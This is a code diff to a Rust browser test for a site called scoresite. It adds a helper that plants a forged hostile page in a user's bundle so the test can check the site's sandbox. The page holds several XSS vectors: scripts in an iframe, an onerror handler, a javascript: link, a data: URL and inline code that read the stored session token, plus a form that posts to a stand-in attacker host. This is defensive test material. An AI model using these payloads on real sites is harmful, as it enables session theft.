@@ -50,6 +50,30 @@ fn sandbox_site_in_chromium() {
     node("sandbox.mjs", &[&site, &data]);
 }
 
+/// Seals a hostile page to `email`'s first bundle, as any co-holder of the
+/// bundle key could, under a path of its own; returns the path.
+fn forge(site: &Path, email: &str, pass: &str) -> String {
+    use age::secrecy::SecretString;
+    let session =
+        scoresite::open::Session::logon(site, email, &SecretString::from(pass.to_string()))
+            .unwrap();
+    let bundle = &session.grant.bundles[0];
+    let identity: age::x25519::Identity = bundle.identity.parse().unwrap();
+    let path = bundle.home.replace("index.html", "forged.html");
+    let page = r#"<!doctype html><html><head><title>Forged</title></head><body><main>
+<h1>Forged page</h1>
+<iframe srcdoc="<script>parent.stolen = parent.sessionStorage.getItem('scoresite.session')</script>"></iframe>
+<img src="x.png" onerror="window.stolen = sessionStorage.length">
+<a id="js" href="javascript:window.stolen=1">a link</a>
+<script>window.stolen = 'script';</script>
+<object data="data:text/html,<script>parent.stolen=1</script>"></object>
+<form action="https://attacker.invalid/"><button id="send">Send</button></form>
+</main></body></html>"#;
+    let sealed = scoresite::seal::to_recipients(page.as_bytes(), &[identity.to_public()]).unwrap();
+    std::fs::write(site.join(session.stored_name(&path)), sealed).unwrap();
+    path
+}
+
 /// Re-seals `email`'s credential in the built `site` at scrypt work factor
 /// `factor`, as a tampered or hand-made credential would be.
 fn reseal(site: &Path, email: &str, pass: &str, factor: u8) {
@@ -162,6 +186,7 @@ fn secure_site_logon_in_chromium() {
     );
     scoresite(&["build", d, "--out", site.to_str().unwrap()]);
     reseal(&site, resealed, pass, 10);
+    let forged = forge(&site, admin, pass);
     let server = serve(&site);
     let port = server.1.rsplit(':').next().unwrap().to_string();
     let args: Vec<String> = vec![
@@ -171,6 +196,7 @@ fn secure_site_logon_in_chromium() {
         admin.into(),
         pass.into(),
         resealed.into(),
+        forged,
     ];
     let args: Vec<&Path> = args.iter().map(Path::new).collect();
     node("secure.mjs", &args);
